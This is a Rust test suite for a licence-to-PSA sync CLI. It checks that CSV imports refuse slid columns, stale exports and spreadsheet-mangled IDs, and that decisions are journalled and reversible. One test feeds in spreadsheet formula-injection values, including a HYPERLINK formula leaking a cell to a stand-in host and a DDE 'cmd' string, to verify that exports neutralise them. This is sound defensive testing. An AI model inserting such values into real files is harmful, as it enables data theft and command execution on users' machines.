//! Decisions in files, and decisions taken back: what a spreadsheet, an old export or a slipped
//! column may do to hundreds of customers, which is nothing.
//!
//! Files of billing that are plainly wrong are in `cli::billing`; how a table is read is tested beside
//! `engine::sheet`.

use crate::harness::licences::Licences;
use crate::harness::program::Program;
use crate::harness::{SYNC, sync};
use crosswalk_sims::sophos_central::{NewRow, SophosTenant};
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::path::PathBuf;

/// Vendors, the program with all read, and the customers the PSA has an account of.
struct Desk {
    licences: Licences,
    program: Program,
    pairs: Vec<(SophosTenant, i64)>,
}

/// A table as a person sees it: the header and rows of cells.
struct Table(Vec<Vec<String>>);

impl Table {
    fn read(text: &str) -> Self {
        let text = text.trim_start_matches('\u{feff}');
        let mut reader = csv::ReaderBuilder::new().delimiter(b';').has_headers(false).from_reader(text.as_bytes());
        Self(reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect())
    }

    fn column(&self, name: &str) -> usize {
        self.0[0].iter().position(|column| column == name).expect("a column")
    }

    fn row_of(&mut self, id: &str) -> &mut Vec<String> {
        self.0.iter_mut().find(|row| row.iter().any(|cell| cell == id)).expect("a row")
    }

    fn text(&self, separator: char) -> String {
        let mut writer = csv::WriterBuilder::new().delimiter(separator as u8).from_writer(Vec::new());
        self.0.iter().for_each(|row| writer.write_record(row).unwrap());
        String::from_utf8(writer.into_inner().unwrap()).unwrap()
    }
}

impl Desk {
    fn of(customers: usize) -> Self {
        let licences = Licences::start_with(
            customers,
            1.0,
            crosswalk_sims::SophosOptions { oddities: false, ..Default::default() },
        );
        let program = licences.program();
        program.run(&format!("plan {SYNC}"));
        let pairs = licences.pairs();
        Self { licences, program, pairs }
    }

    fn exported(&self) -> Table {
        Table::read(&self.program.run(&format!("customer export {SYNC}")).ends(0).out)
    }

    fn import(&self, name: &str, content: impl AsRef<[u8]>) -> String {
        let file: PathBuf = self.program.write(name, content);
        format!("customer import {SYNC} {}", file.display())
    }

    /// The account of each mapped customer.
    fn mapped(&self) -> BTreeMap<String, String> {
        let list = self.program.run(&format!("customer list {SYNC} --json")).ends(0).json();
        let rows = list["customers"].as_array().expect("customers").iter();
        let account = |row: &Value| Some((row["id"].as_str()?.to_owned(), row["account"]["id"].as_str()?.to_owned()));
        rows.filter_map(account).collect()
    }

    /// The export with every right account in it, and its name beside it.
    fn filled(&self) -> Table {
        let names: BTreeMap<String, String> = self
            .licences
            .psa
            .companies()
            .iter()
            .map(|row| (row["id"].to_string(), row["companyName"].as_str().unwrap().to_owned()))
            .collect();
        let mut table = self.exported();
        let (account, name) = (table.column("account"), table.column("account_name"));
        for (tenant, of) in &self.pairs {
            let row = table.row_of(&tenant.id);
            row[account] = of.to_string();
            row[name].clone_from(&names[&of.to_string()]);
        }
        table
    }
}

#[test]
fn a_column_that_slid_by_one_row_maps_nobody() {
    let desk = Desk::of(12);
    let good = desk.filled();
    let mut slid = desk.filled();
    let account = slid.column("account");
    for row in (2..slid.0.len()).rev() {
        slid.0[row][account] = slid.0[row - 1][account].clone();
    }
    slid.0[1][account].clear();
    let said = desk
        .program
        .run(&desk.import("slid.csv", slid.text(';')))
        .refused(1, &["is called `", "but the name beside it is `"]);
    assert!(said.err.contains("row 3: account ") && said.err.contains("more rows: "), "{}", said.whole());
    assert_eq!(desk.mapped(), BTreeMap::new(), "nobody is mapped");
    // The right file is taken, dry first.
    let right = desk.import("right.csv", good.text(';'));
    let would = desk.program.run(&format!("{right} --dry-run --json")).ends(0).json();
    assert_eq!((would["changed"].as_u64(), would["stored"].as_bool()), (Some(desk.pairs.len() as u64), Some(false)));
    assert_eq!(desk.mapped(), BTreeMap::new(), "a dry run stores nothing");
    desk.program.run(&right).ends(0);
    assert_eq!(desk.mapped().len(), desk.pairs.len());
}

#[test]
fn two_customers_exchange_their_accounts_in_one_file() {
    let desk = Desk::of(8);
    desk.program.run(&desk.import("all.csv", desk.filled().text(','))).ends(0);
    let before = desk.mapped();
    let (one, two) = (desk.pairs[0].0.id.clone(), desk.pairs[1].0.id.clone());
    let mut swapped = desk.exported();
    let (account, name) = (swapped.column("account"), swapped.column("account_name"));
    swapped.row_of(&one)[account].clone_from(&before[&two]);
    swapped.row_of(&two)[account].clone_from(&before[&one]);
    for id in [&one, &two] {
        swapped.row_of(id)[name].clear();
    }
    desk.program.run(&desk.import("swapped.csv", swapped.text('\t'))).ends(0);
    let after = desk.mapped();
    assert_eq!((&after[&one], &after[&two]), (&before[&two], &before[&one]));
}

#[test]
fn an_old_export_undoes_nothing_that_was_decided_since() {
    let desk = Desk::of(8);
    desk.program.run(&desk.import("all.csv", desk.filled().text(';'))).ends(0);
    let monday = desk.exported();
    let (acme, contoso) = (desk.pairs[0].0.id.clone(), desk.pairs[1].0.id.clone());
    // On Tuesday a colleague leaves Acme out.
    desk.program.run(&format!("customer map {SYNC} {acme} --exclude")).ends(0);
    let tuesday = desk.mapped();
    // On Wednesday only Contoso's row of Monday's file is changed: Acme stays as it was decided.
    let mut wednesday = Table(monday.0.clone());
    let usage = wednesday.column("usage");
    wednesday.row_of(&contoso)[usage] = "off".to_owned();
    let imported =
        desk.program.run(&format!("{} --json", desk.import("wednesday.csv", wednesday.text(';')))).ends(0).json();
    assert_eq!(imported["changed"], 1, "{imported}");
    assert_ne!(imported["decision"], "", "{imported}");
    assert_eq!(desk.mapped(), tuesday);
    // Acme's own row, changed in Monday's file, is refused, and nothing else of the file is taken.
    wednesday.row_of(&acme)[usage] = "off".to_owned();
    wednesday.row_of(&contoso)[usage] = "on".to_owned();
    desk.program
        .run(&desk.import("late.csv", wednesday.text(';')))
        .refused(1, &[&format!("customer {acme} was decided on since this file was made"), "export it again"]);
    assert_eq!(desk.mapped(), tuesday);
    let mut thursday = desk.exported();
    thursday.row_of(&contoso)[usage] = "on".to_owned();
    let said = desk.program.run(&desk.import("thursday.csv", thursday.text(';'))).ends(0).out;
    assert!(said.contains(&format!("to take it back: crosswalk link take-back {SYNC} d")), "{said}");
}

#[test]
fn an_id_that_a_spreadsheet_changed_is_never_taken_for_another() {
    let desk = Desk::of(6);
    let tenant = desk.pairs[0].0.id.clone();
    let names = ["0123", "123", "8939010102358478435", "73928E03", "SEP12", "1-2"];
    for id in names {
        let row = NewRow { tenant: tenant.clone(), sku: id.to_owned(), billable: Some(5.0), ..NewRow::default() };
        assert!(desk.licences.vendor.add_row(&desk.licences.vendor.month(), row));
    }
    desk.program.run(&format!("plan {SYNC}"));
    let service = |name: &str| {
        let lines = desk.program.run(&format!("link list {SYNC} --kind product --json")).ends(0).json();
        lines.as_array().unwrap().iter().any(|row| row["source"] == json!(name) && row["state"] == json!("excluded"))
    };
    // The file goes out so that every id stays a text, and comes back unharmed.
    let text = desk.program.run(&format!("link export {SYNC} --kind product")).ends(0).out;
    for id in ["0123", "8939010102358478435", "73928E03", "SEP12", "1-2"] {
        assert!(text.contains(&format!(";'{id};")), "{text}");
    }
    let file = desk.program.write("links.csv", &text);
    assert!(
        desk.program.run(&format!("link import {SYNC} {}", file.display())).ends(0).out.starts_with("0 links changed")
    );
    // A spreadsheet that was told to change it all the same: the name beside the id gives it away.
    let mut table = Table::read(&text);
    let (source, state) = (table.column("source"), table.column("state"));
    table.0.retain(|row| row[source] != "123");
    let row = table.row_of("'0123");
    row[source] = "123".to_owned();
    row[state] = "excluded".to_owned();
    let file = desk.program.write("changed.csv", table.text(';'));
    desk.program
        .run(&format!("link import {SYNC} {}", file.display()))
        .refused(1, &["source product 123 is called `Central 123`, but the name beside it is `Central 0123`"]);
    assert!(!service("123"));
    // An id that is nobody's any more is told for what it is.
    for (id, changed) in [("'73928E03", "7.3928E+07"), ("'SEP12", "12-Sep"), ("'8939010102358478435", "8.93901E+18")] {
        let mut table = Table::read(&text);
        let row = table.row_of(id);
        row[source] = changed.to_owned();
        row[state] = "excluded".to_owned();
        let file = desk.program.write("changed.csv", table.text(';'));
        desk.program
            .run(&format!("link import {SYNC} {}", file.display()))
            .refused(1, &["a spreadsheet made a number or a date of an id"]);
    }
}

#[test]
fn no_cell_of_an_export_starts_a_formula_and_the_untouched_file_changes_nothing() {
    let desk = Desk::of(6);
    let evil = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Acme\")", "+cmd|'/c calc'!A0", "@SUM(1)", "-2+3", "-Acme-"];
    for ((tenant, _), name) in desk.pairs.iter().zip(evil) {
        desk.licences.vendor.rename_tenant(&tenant.id, name);
    }
    desk.program.run(&format!("plan {SYNC}"));
    for what in ["customer", "link"] {
        let text = desk.program.run(&format!("{what} export {SYNC}")).ends(0).out;
        let table = Table::read(&text);
        for cell in table.0.iter().flatten() {
            assert!(!cell.starts_with(['=', '+', '@', '\t']) && (cell == "-" || !cell.starts_with('-')), "{cell}");
        }
        assert!(table.0.iter().flatten().any(|cell| cell.starts_with("'=HYPERLINK(")), "{text}");
        let file = desk.program.write("same.csv", &text);
        let said = desk.program.run(&format!("{what} import {SYNC} {} --json", file.display())).ends(0).json();
        assert_eq!(said["changed"], 0, "{said}");
    }
}

#[test]
fn what_a_spreadsheet_in_italy_or_germany_saves_is_taken_as_meant() {
    let desk = Desk::of(5);
    let table = desk.filled();
    let semicolons = table.text(';').replace('\n', "\r\n");
    let utf16: Vec<u8> =
        [0xff, 0xfe].into_iter().chain(table.text('\t').encode_utf16().flat_map(u16::to_le_bytes)).collect();
    let windows: Vec<u8> = semicolons.chars().map(|c| if c as u32 <= 0xff { c as u8 } else { b'?' }).collect();
    for (name, bytes) in [
        ("utf8.csv", format!("\u{feff}{semicolons}").into_bytes()),
        ("sep.csv", format!("\u{feff}sep=;\r\n{semicolons}").into_bytes()),
        ("windows.csv", windows),
        ("unicode.txt", utf16),
    ] {
        let said = desk.program.run(&format!("{} --dry-run --json", desk.import(name, bytes))).ends(0).json();
        assert_eq!(said["changed"].as_u64(), Some(desk.pairs.len() as u64), "{name}: {said}");
    }
    // What holds no decisions, or holds them under another name, never passes for success.
    for (content, expected) in [
        ("hello\nworld\n", "no column `customer`"),
        ("customer,acount\nx,7\n", "unknown column `acount`"),
        ("PK\u{3}\u{4}", "save it as CSV"),
    ] {
        let said = desk.program.run(&desk.import("bad.csv", content)).refused(1, &[expected]);
        assert_eq!(said.err.matches("error: ").count(), 1, "one sentence: {}", said.whole());
    }
    assert_eq!(desk.mapped(), BTreeMap::new());
}

#[test]
fn proposals_are_shown_before_they_are_accepted_and_taken_back_as_one_decision() {
    let desk = Desk::of(12);
    let links = || desk.program.run(&format!("link list {SYNC} --kind customer --json")).ends(0).json();
    let state = |links: &Value, id: &str| {
        let rows = links.as_array().unwrap();
        rows.iter().find(|row| row["source"] == json!(id)).map(|row| (row["state"].clone(), row["candidates"].clone()))
    };
    let before = links();
    // Nobody can be asked here: nothing is linked without a yes.
    desk.program.run(&format!("link accept {SYNC} --score 0.9")).refused(2, &["--yes"]);
    assert_eq!(links(), before);
    let accepted = desk.program.run(&format!("link accept {SYNC} --score 0.9 --yes --json")).ends(0).json();
    let decision = accepted["decision"].as_str().unwrap().to_owned();
    let linked = accepted["links"].as_array().unwrap();
    assert!(!linked.is_empty());
    let reason = linked[0]["reason"]["text"].as_str().unwrap();
    assert!(reason.starts_with("accepted at "), "the score and the reason stay: {reason}");
    // The journal says what it rested on.
    let journal = desk.program.run(&format!("journal {SYNC} --json")).ends(0).json();
    let entries = journal.as_array().unwrap().iter().filter(|entry| entry["detail"]["decision"] == json!(decision));
    let entries: Vec<&Value> = entries.collect();
    assert_eq!(entries.len(), linked.len());
    assert!(entries.iter().all(|entry| entry["detail"]["before"]["candidates"][0]["score"].is_number()), "{entries:?}");
    assert!(entries.iter().all(|entry| entry["detail"]["by"] == json!("accepted score 0.9")));
    // Somebody decides on one of them; the others are taken back.
    let changed = linked[0]["source"].as_str().unwrap();
    desk.program.run(&format!("link exclude {SYNC} customer {changed}")).ends(0);
    desk.program.run(&format!("link take-back {SYNC} {decision}")).ends(4);
    let after = links();
    for one in linked {
        let id = one["source"].as_str().unwrap();
        if id != changed {
            assert_eq!(state(&after, id), state(&before, id), "{id} is as it was before");
        }
    }
    assert_eq!(state(&after, changed).unwrap().0, json!("excluded"), "a newer decision stands");
    desk.program.run(&format!("link take-back {SYNC} d00000000")).refused(1, &["no decision `d00000000`"]);
}

#[test]
fn not_this_one_is_a_decision_and_is_remembered() {
    let desk = Desk::of(12);
    let proposed =
        desk.program.run(&format!("link list {SYNC} --kind customer --state proposed --json")).ends(0).json();
    let one = &proposed.as_array().unwrap()[0];
    let (id, target) = (one["source"].as_str().unwrap(), one["candidates"][0]["target"].as_str().unwrap());
    desk.program.run(&format!("link decline {SYNC} customer {id} {target}")).ends(0);
    desk.program.run(&format!("plan {SYNC}"));
    let links = desk.program.run(&format!("link list {SYNC} --kind customer --json")).ends(0).json();
    let row = links.as_array().unwrap().iter().find(|row| row["source"] == json!(id)).expect("a link");
    assert_ne!(row["state"], json!("linked"));
    let candidates = row["candidates"].as_array().unwrap();
    assert!(candidates.iter().all(|candidate| candidate["target"] != json!(target)), "{row}");
    assert_eq!(row["declined"], json!([target]));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_decision_that_comes_too_late_leaves_neither_a_link_nor_an_entry() {
    let licences = Licences::start(6);
    let app = licences.host().await;
    app.plan().await;
    let tenant = &licences.pairs()[0].0.id;
    let entries = || async {
        let filter = crosswalk::engine::JournalFilter { sync: Some(sync()), limit: 10_000, ..Default::default() };
        app.tenant.journal(&filter).await.expect("a journal").len()
    };
    let before = entries().await;
    let exclude = crosswalk::engine::Decision::Exclude;
    // Somebody looked at revision 41 of it, which never was.
    app.tenant.customer_map(&sync(), tenant, Some(&exclude), None, Some((41, 0))).await.expect_err("too late");
    assert_eq!(entries().await, before);
    app.tenant.customer_map(&sync(), tenant, Some(&exclude), None, None).await.expect("decided");
    assert_eq!(entries().await, before + 1);
}

#[test]
fn grants_secrets_rules_and_pauses_are_in_the_journal_and_no_secret_is() {
    let desk = Desk::of(5);
    let program = &desk.program;
    program.run(&format!("sync set {SYNC} --trust usage=automatic")).ends(0);
    program.run(&format!("sync pause {SYNC}")).ends(0);
    program.run("connection set psa --set service-period=Yearly --secret-env secret=PSA_SECRET").ends(0);
    program.run("connection revoke psa zone").ends(0);
    let url = desk.licences.psa.url();
    program.run(&format!("connection grant psa zone --url {url}")).ends(0);
    let journal = program.run("journal --json").ends(0);
    let entries = journal.json();
    let said = |event: &str, part: &str| {
        let mut found = entries.as_array().unwrap().iter().filter(|entry| entry["event"] == json!(event));
        assert!(
            found
                .any(|entry| part.is_empty()
                    || entry["message"]["text"].as_str().is_some_and(|said| said.contains(part))),
            "{event} {part}: {entries:?}"
        );
    };
    said("sync-added", "licences to psa");
    said("sync-changed", "kinds.usage.trust: automatic, was approve");
    said("paused", "");
    said("connection-added", "psa: autotask, granted");
    said("connection-changed", "psa: settings.service-period: Yearly, was Monthly");
    said("secret-changed", "psa: secret");
    said("revoked", "psa: zone");
    said("granted", "psa: zone");
    assert!(!journal.out.contains(desk.licences.psa.secret()), "a secret is in the journal");
}

#[test]
fn a_cell_that_decides_is_never_dropped_in_silence() {
    let desk = Desk::of(8);
    desk.program.run(&desk.import("all.csv", desk.filled().text(';'))).ends(0);
    let (acme, contoso, fabrikam) =
        (desk.pairs[0].0.id.clone(), desk.pairs[1].0.id.clone(), desk.pairs[2].0.id.clone());
    let decide = |id: &str, column: &str, cell: &str| {
        let mut table = desk.exported();
        let at = table.column(column);
        cell.clone_into(&mut table.row_of(id)[at]);
        let import = desk.import("one.csv", table.text(';'));
        desk.program.run(&format!("{import} --json")).ends(0).json()["changed"].as_u64().unwrap()
    };
    // Left out, and taken back in; the same with a contract alone.
    assert_eq!(decide(&acme, "account", "exclude"), 1);
    assert_eq!(decide(&acme, "account", "exclude"), 0, "it says what stands");
    assert_eq!(decide(&acme, "account", "-"), 1);
    assert_eq!(decide(&contoso, "contract", "exclude"), 1);
    assert_eq!(decide(&contoso, "contract", "-"), 1);
    // A customer that is linked, and whose contract is left out, is left out as a whole.
    assert_eq!(decide(&fabrikam, "contract", "exclude"), 1);
    assert_eq!(decide(&fabrikam, "account", "exclude"), 1);
    assert!(!desk.mapped().contains_key(&fabrikam));
}

#[test]
fn a_target_typed_beside_another_state_than_linked_is_refused_and_a_candidate_that_stood_there_is_not() {
    let desk = Desk::of(12);
    let export = || Table::read(&desk.program.run(&format!("link export {SYNC} --kind customer")).ends(0).out);
    let import = |table: &Table| {
        let file = desk.program.write("links.csv", table.text(';'));
        desk.program.run(&format!("link import {SYNC} {}", file.display()))
    };
    let proposed =
        desk.program.run(&format!("link list {SYNC} --kind customer --state proposed --json")).ends(0).json();
    let (id, target) =
        (proposed[0]["source"].as_str().unwrap(), proposed[0]["candidates"][0]["target"].as_str().unwrap());
    desk.program.run(&format!("link decline {SYNC} customer {id} {target}")).ends(0);
    let row = |table: &Table, state: &str| {
        let (at, target) = (table.column("state"), table.column("target"));
        table.0.iter().position(|row| row[at] == state && (state == "unmapped") == row[target].is_empty()).unwrap()
    };
    let table = export();
    let (state, target) = (table.column("state"), table.column("target"));
    for (from, to) in [("unmapped", "unmapped"), ("unmapped", "excluded"), ("proposed", "excluded")] {
        let mut typed = export();
        let at = row(&typed, from);
        typed.0[at][state] = to.to_owned();
        typed.0[at][target] = "29999".to_owned();
        import(&typed).refused(1, &[&format!("its state is still `{to}`: write `linked` to take the target")]);
    }
    let mut left_out = export();
    let at = row(&left_out, "proposed");
    left_out.0[at][state] = "excluded".to_owned();
    let said = import(&left_out).ends(0);
    assert!(said.out.contains("1 link changed"), "{}", said.whole());
}

#[test]
fn what_a_yes_is_asked_for_is_shown_and_the_hint_does_no_more() {
    let desk = Desk::of(12);
    let proposed =
        desk.program.run(&format!("link list {SYNC} --kind customer --state proposed --json")).ends(0).json();
    let shown = proposed.as_array().unwrap().iter().filter(|row| row["candidates"][0]["score"].as_f64() >= Some(0.9));
    let shown: Vec<&str> = shown.filter_map(|row| row["source"].as_str()).collect();
    for quiet in ["--quiet", "--json"] {
        for (what, hint) in [
            ("link accept", format!("crosswalk link accept {SYNC} --kind customer --score 0.9 --yes")),
            ("customer accept", format!("crosswalk customer accept {SYNC} --score 0.9 --contract-score 0.9 --yes")),
        ] {
            let said = desk.program.run(&format!("{what} {SYNC} --score 0.9 {quiet}")).ends(2);
            assert!(said.whole().contains(&hint), "{}", said.whole());
            assert!(shown.iter().any(|id| said.err.contains(id)), "{}", said.whole());
        }
    }
    let tenant = &desk.pairs[0].0.id;
    desk.program
        .run(&format!("apply 1 --customer {tenant} --kind product --release first-run"))
        .refused(2, &[&format!("crosswalk apply 1 --customer {tenant} --kind product --release first-run --yes")]);
}
